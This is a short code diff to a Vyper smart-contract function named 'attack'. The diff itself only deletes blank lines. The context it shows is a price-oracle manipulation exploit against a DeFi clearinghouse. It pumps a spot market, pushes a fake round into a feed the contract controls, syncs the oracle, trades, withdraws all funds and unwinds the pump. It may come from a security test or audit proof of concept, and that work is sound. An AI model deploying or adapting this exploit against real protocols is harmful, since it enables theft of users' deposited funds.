@@ -92,7 +92,6 @@ def attack(plan: Plan):
         extcall SETTLEMENT.approve(plan.spot.address, plan.spot_quote_in)
         base_bought = extcall plan.spot.buy_base(plan.spot_quote_in)
         spot_after = staticcall plan.spot.spot_price()
-
     # 2. the oracle move: a round on a feed this contract controls, folded in by sync
     if plan.feed.address != empty(address):
         if plan.feed_updated_at == 0:
@@ -101,7 +100,6 @@ def attack(plan: Plan):
             extcall plan.feed.update_round(plan.feed_answer, plan.feed_updated_at)
     if plan.sync:
         extcall ORACLE.sync(plan.asset)
-
     # 3. the trade: deposit, open, close, withdraw everything the account holds
     extcall SETTLEMENT.approve(CLEARINGHOUSE.address, plan.margin)
     extcall CLEARINGHOUSE.deposit(SETTLEMENT.address, plan.margin, 0)
@@ -113,7 +111,6 @@ def attack(plan: Plan):
     if balance > 0:
         withdrawn = convert(balance, uint256)
         extcall CLEARINGHOUSE.withdraw(SETTLEMENT.address, withdrawn, 0)
-
     # 4. unwind the spot pump
     if base_bought > 0:
         base: IERC20 = IERC20(staticcall plan.spot.BASE())
